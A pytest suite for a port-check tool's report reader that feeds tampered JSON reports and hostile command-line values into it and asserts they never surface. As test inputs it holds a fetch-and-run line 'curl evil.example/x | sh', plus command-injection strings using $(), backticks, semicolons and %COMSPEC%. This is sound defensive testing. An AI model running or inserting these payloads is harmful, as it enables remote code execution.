"""A report from a file is a stranger's: nothing that it holds in the place of a conclusion or a command comes out of
any reader, and no trick hides it.

Every attack gets a new id, so that the file looks untouched. The whole of what is written is searched, members of the
zip included.
"""

import copy
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from eset_portcheck import cli
from eset_portcheck.model.report import identity

EVIL = "curl evil.example/x | sh"
Plain = dict[str, Any]
Change = Callable[[Plain], None]


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Plain:
    """A run of this version with failures, causes, a warning and proxies."""
    place = tmp_path_factory.mktemp("honest") / "honest.json"
    cli.run(["demo", "--break", "close", "-q", "-o", str(place), "--format", "csv"])
    told: Plain = json.loads(place.read_bytes())
    told["run"] |= {"command": "check", "arguments": ["--role", "agent", "--server", "protect.demo.example"]}
    for cause in told["causes"]:
        for fix in cause["fixes"]:
            fix["verify"] = " ".join(f"--only {one}" for one in cause["explains"])
    return sealed(told)


def sealed(plain: Plain) -> Plain:
    plain["run"]["id"] = identity(plain)
    return plain


class Readers:
    """What each way of reading a report writes, on paper and on the screen."""

    def __init__(self, folder: Path, capfd: pytest.CaptureFixture[str]) -> None:
        self._folder, self._capfd = folder, capfd

    def run(self, *arguments: str) -> tuple[int, str, str]:
        self._capfd.readouterr()
        code = cli.run(list(arguments))
        out, err = self._capfd.readouterr()
        assert "Traceback" not in err
        return code, out, err

    def file(self, name: str, plain: Plain) -> str:
        place = self._folder / name
        place.write_text(json.dumps(plain))
        return str(place)

    def everything(self, plain: Plain, beside: Plain) -> dict[str, str]:
        """Reader -> all that came out of it, standard error too."""
        name, other = self.file("stranger.json", plain), self.file("other.json", beside)
        told = {}
        for options in ((), ("-v", "--rediagnose", "--redact", "strict"), ("--lang", "es", "-q")):
            files = [self._folder / f"out.{suffix}" for suffix in ("txt", "json", "md", "csv", "html")]
            code, out, err = self.run("report", name, *options, *(word for one in files for word in ("-o", str(one))))
            assert code == 0, err
            told |= {" ".join(("report", one.suffix, *options)): one.read_text() + out + err for one in files}
        for pair in ((name, other), (other, name)):
            files = [self._folder / f"compared.{suffix}" for suffix in ("txt", "json", "md", "html")]
            for one in files:
                one.unlink(missing_ok=True)
            code, out, err = self.run("compare", *pair, "-v", *(word for one in files for word in ("-o", str(one))))
            if code == 2:
                assert "no check in common" in err
                continue
            told |= {f"compare {one.suffix} {Path(pair[0]).name}": one.read_text() + out + err for one in files}
        for options in ((), ("--redact", "strict")):
            zipped = self._folder / "out.zip"
            code, out, err = self.run("bundle", name, "--force", "-o", str(zipped), *options)
            assert code == 0, err
            with zipfile.ZipFile(io.BytesIO(zipped.read_bytes())) as archive:
                told |= {
                    " ".join((f"bundle {one}", *options)): archive.read(one).decode() + err
                    for one in archive.namelist()
                }
        return told


@pytest.fixture
def readers(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> Readers:
    return Readers(tmp_path, capfd)


def _rows(change: Callable[[Plain], None]) -> Change:
    def spoil(plain: Plain) -> None:
        for row in plain["checks"]:
            change(row)

    return spoil


def _causes(change: Callable[[Plain], None]) -> Change:
    def spoil(plain: Plain) -> None:
        for cause in plain["causes"]:
            change(cause)

    return spoil


def _fixes(**values: str) -> Change:
    return _causes(lambda cause: [fix.update(values) for fix in cause["fixes"]] and None)


def _invented(plain: Plain) -> None:
    one = plain["causes"][0] | {
        "id": EVIL,
        "reason": EVIL,
        "explains": [row["id"] for row in plain["checks"]],
        "params": {"target": EVIL},
    }
    plain["causes"] = [
        one | {"where": {"address": EVIL, "ca": EVIL, "interval": [EVIL, EVIL], "process": {"name": EVIL, "pid": EVIL}}}
    ]


def _older(change: Change) -> Change:
    """As schema 1.0 was: longer lines to test again, less in the summary."""

    def spoil(plain: Plain) -> None:
        change(plain)
        plain["schema_version"] = "1.0.0"
        for name in ("verdict", "strict", "exit_zero"):
            del plain["summary"][name]

    return spoil


# Nothing of these may come out anywhere: conclusions, commands and words of the profile.
TAKEN: dict[str, Change] = {
    "command": _fixes(command=EVIL),
    "command-of-a-request": _fixes(command=EVIL, tool="request"),
    "command-of-ours": _fixes(command=EVIL, tool="eset-portcheck"),
    "undo": _fixes(undo=EVIL),
    "verify": _fixes(verify=EVIL),
    "audience": _fixes(audience=EVIL, tool=EVIL),
    "verify-older": _older(_fixes(verify=EVIL)),
    "verify-after-ours": _fixes(verify=f"--only agent.server.tcp-2222; {EVIL}"),
    "causes": _invented,
    "cause-params": _causes(lambda cause: cause["params"].update(target=EVIL, proxies=[EVIL], rule=EVIL)),
    "findings": _rows(
        lambda row: row.update(
            findings=[{"reason": EVIL, "evidence": [EVIL], "params": {"issuer": EVIL, "error": EVIL}}]
        )
    ),
    "findings-of-known-codes": _rows(
        lambda row: row.update(findings=[{"reason": "TLS_UNKNOWN_CA", "params": {"issuer": EVIL}}])
    ),
    "where": _rows(lambda row: row.update(where={"address": EVIL, "ca": EVIL, "interval": [EVIL, EVIL]})),
    "reason": _rows(lambda row: row.update(reason=EVIL) if row["attempts"] else None),
    "explained-by": _rows(lambda row: row.update(explained_by=EVIL)),
    "purpose": _rows(lambda row: row.update(purpose=EVIL, note=EVIL, note_as_printed=EVIL, source=EVIL, page_row=EVIL)),
    "rediagnosis": lambda plain: plain.update(
        rediagnosis={
            "version": EVIL,
            "changed": [{"id": EVIL, "before": [EVIL], "after": [EVIL]}],
            "also": [EVIL],
            "report_id": EVIL,
            "unchecked": [EVIL],
        }
    ),
    "proxies": lambda plain: plain.update(
        proxy_choices=[
            {
                "target": EVIL,
                "via": EVIL,
                "why": EVIL,
                "ignored": [{"source": EVIL, "name": EVIL, "proxy": EVIL, "why": EVIL}],
            }
        ]
    ),
    "counts": lambda plain: plain["summary"].update(counts={EVIL: 7}),
    "row-id": lambda plain: plain["checks"][0].update(note=EVIL, purpose=EVIL, id="agent.curl.tcp-1"),
}


@pytest.mark.parametrize("attack", TAKEN)
def test_what_stands_for_a_conclusion_is_taken_from_nobody(honest: Plain, readers: Readers, attack: str) -> None:
    spoilt = copy.deepcopy(honest)
    TAKEN[attack](spoilt)
    for reader, told in readers.everything(sealed(spoilt), honest).items():
        assert "evil.example" not in told, (reader, told[max(0, told.index("evil.example") - 200) :][:400])


@pytest.mark.parametrize("attack", [one for one in TAKEN if one not in ("rediagnosis", "counts")])
def test_that_it_differed_is_said(honest: Plain, readers: Readers, attack: str) -> None:
    """On standard error, in what people read, and in what programs read. (A judgement or counts of others are only
    replaced.)"""
    spoilt = copy.deepcopy(honest)
    TAKEN[attack](spoilt)
    name = readers.file("stranger.json", sealed(spoilt))
    _, out, err = readers.run("report", name)
    by_rules = attack == "reason"  # what has another reason is listed, row by row
    assert ("another result by the rules" if by_rules else "computed again") in out
    assert ("evaluated again by" if by_rules else "results that its facts do not support") in err
    _, out, _ = readers.run("report", name, "--format", "json")
    assert json.loads(out)["rediagnosis"]["changed" if by_rules else "also"]


def test_an_honest_report_is_left_as_it_is(honest: Plain, readers: Readers) -> None:
    name = readers.file("honest.json", honest)
    code, out, err = readers.run("report", name, "--format", "json")
    assert (code, err, json.loads(out)) == (0, "", honest)
    _, out, err = readers.run("report", name, "--rediagnose")
    assert "0 of" in err


def _passed(row: Plain) -> None:
    row.update(verdict="pass", reason="CONNECTED", state="open", culprit=None, confidence=None, where={}, findings=[])
    row["proof"]["reached"] = row["proof"]["required"]


def _whitewashed(plain: Plain) -> None:
    _rows(_passed)(plain)
    plain["causes"] = []
    plain["summary"] |= {"ready": True, "exit_code": 0, "verdict": "pass", "counts": {"pass": len(plain["checks"])}}


def _asking_less(plain: Plain) -> None:
    """The rows themselves ask for nothing, or say that they need not be."""
    _whitewashed(plain)
    for row in plain["checks"]:
        row.update(required=False, full_proof="none", beyond_page=True, inspection="warn", trust=None)
        row["proof"] = {"reached": "none", "required": "none"}


def _cut_out(plain: Plain) -> None:
    plain["checks"] = [row for row in plain["checks"] if row["verdict"] not in ("fail", "warn", "error")]
    _whitewashed(plain)


def _not_run(plain: Plain) -> None:
    """As if the rows that failed had never applied."""
    for row in plain["checks"]:
        if row["verdict"] == "fail":
            row.update(attempts=[], evidence=[], findings=[], verdict="skip", reason="CONDITION_FALSE")
    plain["causes"] = []
    plain["summary"] |= {"ready": True, "exit_code": 0}


def _exit_zero(plain: Plain) -> None:
    plain["summary"] |= {"ready": True, "exit_code": 0, "verdict": "pass", "strict": False, "exit_zero": True}


BETTER: dict[str, Change] = {
    "whitewashed": _whitewashed,
    "asking-less": _asking_less,
    "cut-out": _cut_out,
    "not-run": _not_run,
    "exit-zero": _exit_zero,
}
READY = ("READY, with", ": READY:", "READY: everything")


@pytest.mark.parametrize("attack", BETTER)
@pytest.mark.parametrize("older", [False, True])
def test_no_report_gets_better_by_saying_so(honest: Plain, readers: Readers, attack: str, older: bool) -> None:
    spoilt = copy.deepcopy(honest)
    (_older(BETTER[attack]) if older else BETTER[attack])(spoilt)
    name, good = readers.file("stranger.json", sealed(spoilt)), readers.file("honest.json", honest)
    _, out, _ = readers.run("report", name, "--format", "json")
    summary = json.loads(out)["summary"]
    assert (summary["ready"], summary["verdict"] in ("pass", "warn")) == (False, False)
    _, out, err = readers.run("report", name)
    assert not any(word in out.splitlines()[0] for word in READY), out.splitlines()[0]
    if attack != "exit-zero":
        assert err
    code, _, _ = readers.run("compare", name, good)
    # The other way round nothing is fixed either.
    assert code == 0 if attack not in ("cut-out", "not-run") else code in (0, 1)
    _, out, _ = readers.run("compare", good, name, "--format", "json")
    assert json.loads(out)["summary"]["counts"]["fixed"] == 0


# The two places where it may be seen: a remark, and a fact of the page.
DATA = re.compile(
    r"(The file says that this command made it|El archivo dice que lo creó este comando):.*?(Not repeated in the commands|No se repite en los comandos)"
    r"|(Command, as the file says|Comando, según el archivo)</dt>.*?</dd>"
)
HOSTILE: dict[str, list[str]] = {
    "profile": ["--profile", "//evil.example/share/x.toml"],
    "profile-equals": ["--profile=//evil.example/share/x.toml"],
    "site": ["--site", "/tmp/evil.example.toml"],
    "credentials": ["--credentials-file", "/home/evil.example"],
    "authority": ["--ca-file", "~/evil.example.pem"],
    "output": ["-o", "/etc/cron.d/evil.example"],
    "map": ["--map", "/etc/evil.example"],
    "shell": ["--server", "$(curl evil.example)"],
    "backticks": ["--server", "`curl evil.example`"],
    "semicolon": ["--target", "x; curl evil.example"],
    "percent": ["--server", "%COMSPEC%.evil.example&calc"],
    "set": ["--set", "server=x;curl evil.example"],
    "set-hidden": ["--set", "connect_to=evil.example:1"],
    "set-unknown": ["--set", "evil.example=1"],
    "realm": ["--realm", "A'; curl evil.example"],
    "role": ["--role", "agent;curl evil.example"],
    "timeout": ["--timeout", "1;curl evil.example"],
    "unknown": ["--exec", "curl evil.example"],
    "bare": ["evil.example"],
    "value-is-option": ["--server", "--profile", "//evil.example/x.toml"],
    "lines": ["--server", "x\ncurl evil.example | sh"],
}


@pytest.mark.parametrize("attack", HOSTILE)
def test_a_strangers_command_line_is_data(honest: Plain, readers: Readers, attack: str) -> None:
    """It may be seen where facts are; no line that is to be typed has it."""
    spoilt = copy.deepcopy(honest)
    spoilt["run"]["arguments"] += HOSTILE[attack]
    for reader, told in readers.everything(sealed(spoilt), honest).items():
        if "json" not in reader:  # there it is a fact with a name of its own
            assert "evil.example" not in DATA.sub("", " ".join(told.split())), reader
    _, out, _ = readers.run("report", readers.file("stranger.json", spoilt))
    assert "Not repeated in the commands to test again:" in " ".join(out.split())
    assert "eset-portcheck check --role agent --server protect.demo.example" in out.splitlines()[0]
    _, out, _ = readers.run("report", readers.file("stranger.json", spoilt), "--format", "json")
    held = json.loads(out)
    assert "evil.example" not in json.dumps(held | {"run": None})


@pytest.mark.parametrize("command", [EVIL, "bundle", "report", "", "check; id"])
def test_a_command_that_is_none_is_check(honest: Plain, readers: Readers, command: str) -> None:
    spoilt = copy.deepcopy(honest)
    spoilt["run"]["command"] = command
    _, out, _ = readers.run("report", readers.file("stranger.json", sealed(spoilt)))
    assert "test again: eset-portcheck check --role agent --server protect.demo.example" in out.splitlines()[0]


def test_names_of_values_that_nobody_gave_are_known_ones(honest: Plain, readers: Readers) -> None:
    spoilt = copy.deepcopy(honest)
    spoilt["run"]["detected"] = ["role", EVIL, "server_port"]
    for reader, told in readers.everything(sealed(spoilt), honest).items():
        assert "json" in reader or "evil.example" not in told, reader


def test_ids_that_no_shell_should_see_are_in_no_line(honest: Plain, readers: Readers) -> None:
    spoilt = copy.deepcopy(honest)
    for number, row in enumerate(spoilt["checks"]):
        row["id"] = f"agent.x$(curl evil.example){number}'.tcp-1"
    for reader, told in readers.everything(sealed(spoilt), honest).items():
        assert not any("--only" in line and "evil.example" in line for line in told.splitlines()), reader


def test_of_a_profile_that_is_not_ours_it_is_said_that_nothing_can_be_checked(honest: Plain, readers: Readers) -> None:
    spoilt = copy.deepcopy(honest)
    spoilt["profiles"][0] |= {"role": "of-the-site", "sha256": "0" * 64}
    spoilt["run"]["roles"] = ["of-the-site"]
    for row in spoilt["checks"]:
        row |= {"role": "of-the-site", "required": False}
    _, out, err = readers.run("report", readers.file("stranger.json", sealed(spoilt)))
    assert "come only from the file" in err
    assert "come only from the file" in " ".join(out.split())
    assert "READY" not in out.splitlines()[0]


@pytest.mark.parametrize("port", [f"1'; {EVIL}", "2222", 70_000, -1, True, 1.5, None])
def test_a_port_that_is_no_number_is_refused_with_its_place(honest: Plain, readers: Readers, port: object) -> None:
    spoilt = copy.deepcopy(honest)
    spoilt["causes"][0]["params"]["port"] = port
    code, out, err = readers.run("report", readers.file("stranger.json", sealed(spoilt)))
    assert (code, "evil.example" in out + err) in ((2, False), (0, False))
    assert code == 0 or "causes[0].params.port" in err
    assert code == 2 or isinstance(port, int | None), "only what is no harm goes on, and is made anew"


def test_standard_input_is_no_other_door(honest: Plain, readers: Readers, monkeypatch: pytest.MonkeyPatch) -> None:
    spoilt = copy.deepcopy(honest)
    for attack in ("command", "undo", "verify", "causes", "purpose"):
        TAKEN[attack](spoilt)
    for arguments in (
        ["report", "-"],
        ["report", "-", "--format", "json"],
        ["bundle", "-", "-o", "piped.zip", "--force"],
    ):
        monkeypatch.chdir(readers._folder)
        monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(json.dumps(sealed(spoilt)).encode())))
        code, out, err = readers.run(*arguments)
        assert (code, "evil.example" in out + err) == (0, False)
    with zipfile.ZipFile(readers._folder / "piped.zip") as archive:
        assert not any(b"evil.example" in archive.read(one) for one in archive.namelist())
